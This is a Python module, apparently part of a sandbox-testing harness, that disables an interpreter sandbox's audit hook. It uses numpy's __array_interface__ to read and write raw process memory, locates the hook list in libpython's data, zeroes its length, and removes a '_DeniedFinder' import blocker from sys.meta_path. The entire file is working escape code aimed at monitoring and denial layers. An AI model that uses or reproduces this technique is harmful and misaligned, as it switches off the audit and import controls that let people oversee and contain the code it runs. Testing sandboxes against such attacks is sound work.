"""Takes the sandbox's audit hook out of the interpreter with numpy alone (no ctypes).

Prepended to the candidates marked ``# unhook`` so they show what stays once a candidate
has done this: only the layers the kernel enforces. numpy turns any address into an array
through `__array_interface__`; the interpreter state, found next to a pointer to
`sys.modules` in libpython's data, holds the list of audit hooks; setting that list's length
to 0 empties it. The import-path finder that reports dynamic imports is a plain list entry.
"""

import sys as _sys
import types as _types

import numpy as _np


def _words(addr, n, typestr="<u8"):
    class _Raw:
        pass
    raw = _Raw()
    raw.__array_interface__ = {"data": (addr, False), "shape": (n,), "typestr": typestr,
                               "version": 3}
    return _np.asarray(raw)


def _unhook():
    with open("/proc/self/maps") as f:
        lines = [line.split() for line in f]
    ranges = [(int(a, 16), int(b, 16), parts[1], parts[5] if len(parts) > 5 else "")
              for parts in lines for a, b in [parts[0].split("-")]]

    def ok(p, n=64):
        return p % 8 == 0 and any(lo <= p and p + n <= hi and perm[0] == "r"
                                  for lo, hi, perm, _ in ranges)

    def name_of(fn):
        name = int(_words(fn, 5)[4])
        if not ok(name):
            return b""
        n = int(_words(name, 3)[2])
        return bytes(_words(name + 48, min(n, 32), "|u1")) if ok(name + 48, n) else b""

    cleared = 0
    for i, (lo, hi, perm, path) in enumerate(ranges):
        after_python = i > 0 and "python" in ranges[i - 1][3] and not path
        if perm[:2] != "rw" or not ("python" in path or after_python) or hi - lo > (64 << 20):
            continue
        words = _words(lo, (hi - lo) // 8)
        for h in _np.nonzero(words == id(_sys.modules))[0]:
            for k in range(int(h), min(int(h) + 4096, words.size)):
                p = int(words[k])
                if not ok(p):
                    continue
                head = _words(p, 4)
                size = int(head[2])
                if int(head[1]) != id(list) or not 0 < size < 8 or not ok(int(head[3]), 8 * size):
                    continue
                items = [int(x) for x in _words(int(head[3]), size)]
                if all(ok(x) and int(_words(x, 2)[1]) == id(_types.FunctionType) for x in items) \
                        and any(name_of(x) == b"hook" for x in items):
                    head[2] = 0
                    cleared += 1
    _sys.meta_path[:] = [f for f in _sys.meta_path if type(f).__name__ != "_DeniedFinder"]
    if not cleared:
        raise RuntimeError("the audit hook was not found")


_unhook()
